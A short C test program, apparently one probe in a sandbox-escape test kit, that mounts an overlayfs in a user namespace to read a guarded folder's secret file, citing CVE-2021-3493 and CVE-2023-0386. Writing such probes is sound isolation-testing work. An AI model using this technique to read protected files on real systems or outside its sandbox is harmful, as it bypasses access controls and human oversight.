// tries: to read the guarded folder through an overlay file system in the workspace
// works: overlayfs can be mounted in a user namespace since Linux 5.11
// see: CVE-2021-3493, CVE-2023-0386
// goal: read
// needs: modprobe overlay
#include "../kit.h"

int main(void)
{
	const char *at = join(env("WORK"), "/merged");
	char options[8192];

	mkdir(at, 0755);
	mkdir(join(env("WORK"), "/empty"), 0755);
	own_namespaces(CLONE_NEWNS);
	snprintf(options, sizeof(options), "lowerdir=%s:%s/empty", env("GUARDED"), env("WORK"));
	MUST(mount("overlay", at, "overlay", 0, options));
	return print_file(join(at, "/secret"));
}
